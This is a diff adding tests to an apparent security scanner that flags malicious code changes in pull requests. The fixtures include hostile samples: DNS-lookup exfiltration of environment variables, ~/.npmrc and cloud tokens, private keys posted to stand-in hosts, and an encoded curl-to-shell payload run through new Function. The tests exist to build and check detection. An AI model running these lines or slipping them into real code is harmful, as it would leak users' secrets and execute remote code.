@@ -411,7 +411,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting'];
+    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -1658,6 +1658,19 @@ describe('dynamic-code-execution of an edited string constant', () => {
   });
 });
 
+describe('dynamic-code-execution of an edited string constant, its sink far from the hunk', () => {
+  const head = (template: string) => ["'use strict';", `const TEMPLATE = ${template};`, ...Array.from({ length: 40 }, (_, i) => `const pad${i} = ${i};`), 'module.exports = (items) => new Function(\'items\', TEMPLATE)(items);', ''].join('\n');
+  const patch = "@@ -1,3 +1,3 @@\n 'use strict';\n-const TEMPLATE = 'return items.join(\", \")';\n+const TEMPLATE = 'require(\"child_process\").exec(process.env.HOOK); return items';\n const pad0 = 0;";
+  const found = (contents: { path: string; base: string | null; head: string | null }[]) => {
+    const snapshot = makeSnapshot({ title: 'Fix the template', files: [makeFile('src/render.js', { patch })], contents, commits: [makeCommit({ message: 'Fix the template' })] });
+    return scanCodeChanges(snapshot, (p) => classifier.info(p)).filter((f) => f.id === 'dynamic-code-execution').map((f) => f.title);
+  };
+  it('reads the whole head file when the analysis has it, and only the patch when it does not', () => {
+    expect(found([{ path: 'src/render.js', base: null, head: head("'require(\"child_process\").exec(process.env.HOOK); return items'") }])).toEqual(['An edited string constant (TEMPLATE) is run as code by an unchanged line']);
+    expect(found([])).toEqual([]);
+  });
+});
+
 describe('invisible-character: encoded invisible text (GlassWorm, 2025)', () => {
   const vs = (bytes: readonly number[]) => bytes.map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
   const payload = vs([...Buffer.from("require('child_process').exec('id')")]);
@@ -1779,6 +1792,19 @@ describe('secret-harvesting: a private key handed to a request (@solana/web3.js,
     expect(sent('src/keypair.ts', keypair(['    register(publicKeyOf(secretKey), addressOf(secretKey));', '  }', '}', 'function register(k: string, a: string): void {', '  fetch("https://faucet.example/api/register", { method: "POST", body: k + a });']))).toBeUndefined();
     expect(sent('src/keypair.ts', keypair(['    report(keypair.publicKey.toBase58());', '  }', '}', 'function report(k: string): void {', '  fetch("https://stats.example/api/keys", { method: "POST", body: k });']))).toBeUndefined();
     expect(sent('src/wallet.ts', hunk(["const wallet = Keypair.generate();", "fetch('https://errors.example/report', { method: 'POST', body: 'invalid private key format' });"]))).toBeUndefined();
+  });
+});
+
+describe('secret-harvesting: a private key handed to a request, in Go and Rust', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
+  it('reads net/http and reqwest, directly or through a function (a method too) the change defines', () => {
+    expect(sent('wallet/keys.go', ['\tprivateKey := solana.PrivateKey(b)', '\thttp.Post("https://sol-rpc-metrics.example/v1", "text/plain", bytes.NewReader([]byte(privateKey.String())))'])?.severity).toBe('high');
+    expect(sent('wallet/keys.go', ['\tk := solana.MustPrivateKeyFromBase58(s)', '\tw.queue(k.String(), privateKey)', '}', 'func (w *Wallet) queue(a string, k solana.PrivateKey) {', '\treq, _ := http.NewRequest("POST", "https://sol-rpc-metrics.example/q", strings.NewReader(k.String()))'])?.title).toBe('A private key is handed to queue(), which sends it to a host');
+    expect(sent('src/wallet.rs', ['    let keypair = Keypair::from_bytes(&bytes)?;', '    let _ = reqwest::blocking::Client::new().post("https://sol-rpc-metrics.example/v1").body(bs58::encode(keypair.secret_key()).into_string()).send();'])?.severity).toBe('high');
+  });
+  it('is quiet on a transaction signed and sent to a node, or a public key sent', () => {
+    expect(sent('wallet/send.go', ['\ttx.Sign(func(k solana.PublicKey) *solana.PrivateKey { return &privateKey })', '\tsig, err := rpcClient.SendTransaction(ctx, tx)'])).toBeUndefined();
+    expect(sent('src/register.rs', ['    let keypair = Keypair::new();', '    client.post("https://faucet.example/api/register").body(keypair.pubkey().to_string()).send().await?;'])).toBeUndefined();
   });
 });
 
@@ -2013,5 +2039,53 @@ describe('pr-claim-mismatch: a documentation field extended below its context', 
   it('is a change when code follows the text', () => {
     const found = scan([makeFile('internal/provider/resource_bytes.go', { patch: patch(['\t\t\t"considered sensitive." + secretSuffix(),']) })], 'docs: Add explicit note of cryptographic generator to `random_bytes`');
     expect(found.find((f) => f.id === 'pr-claim-mismatch')?.severity).toBe('medium');
+  });
+});
+
+describe('dns-exfiltration: data written into the name a DNS lookup asks for', () => {
+  const dns = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dns-exfiltration');
+  it('reads shell scripts, JavaScript, Python and Go, with the data on the line or a few lines above in the hunk', () => {
+    expect(dns('scripts/postinstall.sh', ['for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net" >/dev/null; done'])?.severity).toBe('critical');
+    expect(dns('scripts/setup.sh', ['nslookup "$(cat ~/.npmrc | base32 | tr -d = | head -c 60).n.cache-check.dev" >/dev/null 2>&1 || true'])?.severity).toBe('high');
+    expect(dns('tools/beacon.sh', ['ping -c 1 "$(whoami).$(hostname).cb.oast-relay.net" >/dev/null'])?.severity).toBe('high');
+    expect(dns('src/telemetry.js', ["const data = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);", '', 'dns.resolve(`${data}.t.cdn-metrics.net`, () => {});'])).toMatchObject({ severity: 'critical', line: 13, title: 'Data is sent out in a DNS lookup of *.t.cdn-metrics.net' });
+    expect(dns('pkg/_ping.py', ['d = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().strip("=")', 'socket.gethostbyname(f"{d}.x.ns-check.net")'])?.severity).toBe('critical');
+    expect(dns('internal/t.go', ['\tnet.LookupHost(hex.EncodeToString([]byte(os.Getenv("GITHUB_TOKEN"))) + ".x.dnslog.dev")'])?.severity).toBe('critical');
+  });
+  it('is quiet on lookups of names built from ordinary values, random names, local and example domains', () => {
+    expect(dns('scripts/check-dns.sh', ['dig +short "${SERVICE}.svc.cluster.local"', 'dig +short "_acme-challenge.$DOMAIN" TXT @"$NS"', 'host "$(git rev-parse --short HEAD).preview.acme.dev"', 'ping -c1 "$(hostname).corp.acme.com"', 'echo "resolving $(whoami).example.dev"'])).toBeUndefined();
+    expect(dns('test/dns.test.js', ["const name = `${crypto.randomBytes(8).toString('hex')}.nxdomain-check.io`;", "await assert.rejects(dns.promises.resolve4(`${crypto.randomBytes(8).toString('hex')}.nxdomain-check.io`));"])).toBeUndefined();
+    expect(dns('src/discovery.ts', ['const name = process.env.SERVICE_NAME;', 'dns.lookup(`${name}.svc.acme.io`, cb);'])).toBeUndefined();
+    expect(dns('app/storage.py', ['host = socket.gethostbyname(f"{bucket}.s3.amazonaws.com")', 'token = base64.b64encode(key)'])).toBeUndefined();
+  });
+});
+
+describe('obfuscated-code: a payload cut out of a longer string, decoded and run', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => `${f.id}:${f.severity}`);
+  const B = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cHM6Ly94LmV4YW1wbGUuY29tL3Auc2ggfCBzaCIp';
+  it('reads Buffer.from over a split or slice, and vm run through require', () => {
+    expect(ids('src/index.js', [`const cfg = 'v1 ${B}';`, "const p = Buffer.from(cfg.split(' ')[1], 'base64').toString();", 'new Function(p)();'])).toContain('obfuscated-code:high');
+    expect(ids('src/load.js', ["const c = require('./cfg.json');", "const code = Buffer.from(c.v.slice(4), 'base64url').toString('utf8');", "require('vm').runInThisContext(code);"])).toContain('obfuscated-code:high');
+  });
+  it('is quiet on the same decoding without code run: a data URL, a JWT, Basic auth', () => {
+    expect(ids('src/img.js', ['export function decode(url) {', "  const [, data] = url.split(',');", "  return Buffer.from(data, 'base64');", '}', "export const claims = (t) => JSON.parse(Buffer.from(t.split('.')[1], 'base64url').toString());", "export const user = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];"])).toEqual([]);
+  });
+});
+
+describe('suspicious-network-endpoint: a secret read from the environment and posted to another service', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'suspicious-network-endpoint');
+  it('reports a service- or product-named secret sent as data to a host that is not its own, high', () => {
+    expect(sent('src/metrics.ts', ["await fetch('https://collect.telemetry-hub.dev/ingest', { method: 'POST', body: JSON.stringify({ t: process.env.MYAPP_TOKEN }) });"])).toMatchObject({ severity: 'high', title: 'A secret named for another service is sent to collect.telemetry-hub.dev' });
+    expect(sent('scripts/report.js', ["const req = https.request({ hostname: 'api.buildstats-cdn.com', path: '/v1/c', method: 'POST' });", 'req.end(JSON.stringify({ k: process.env.NPM_TOKEN }));'])?.severity).toBe('high');
+    expect(sent('pkg/stats.py', ['requests.post("https://collect.telemetry-hub.dev/ingest", json={"k": os.environ.get("ACME_DEPLOY_KEY")})'])?.severity).toBe('high');
+    expect(sent('src/ping.ts', ["await fetch('https://collect.telemetry-hub.dev/f', { method: 'POST', body: new URLSearchParams({ k: process.env.NPM_TOKEN ?? '' }) });"])?.severity).toBe('high');
+  });
+  it('is quiet on a secret sent to its own service (host or path), as a header or a client credential, to a token endpoint, to a URL from configuration, or a generic name', () => {
+    expect(sent('app/api/contact/route.ts', ["const r = await fetch('https://www.google.com/recaptcha/api/siteverify', {", "  method: 'POST',", '  body: `secret=${process.env.RECAPTCHA_SECRET_KEY}&response=${token}`,', '});'])).toBeUndefined();
+    expect(sent('src/mail.ts', ["await fetch('https://api.mailfox.net/v3/messages', { method: 'POST', body: JSON.stringify({ api_key: process.env.MAILFOX_API_KEY, to }) });"])).toBeUndefined();
+    expect(sent('src/trace.py', ['headers = {"x-api-key": os.environ["LANGSMITH_API_KEY"]}', 'httpx.post("https://api.smith.example-traces.dev/runs", headers=headers, json=run)'])).toBeUndefined();
+    expect(sent('src/auth.ts', ["await fetch('https://id.acme-sso.dev/oauth/token', { method: 'POST', body: new URLSearchParams({ client_secret: process.env.ZEPHYR_CLIENT_SECRET }) });"])).toBeUndefined();
+    expect(sent('src/sheet.ts', ['await fetch(process.env.SHEET_URL, { method: "POST", body: JSON.stringify({ token: process.env.SHEET_TOKEN, rows }) });'])).toBeUndefined();
+    expect(sent('src/hook.ts', ["await fetch('https://hooks.buildstat-hub.io/x', { method: 'POST', body: JSON.stringify({ token: process.env.API_TOKEN }) });"])).toBeUndefined();
   });
 });
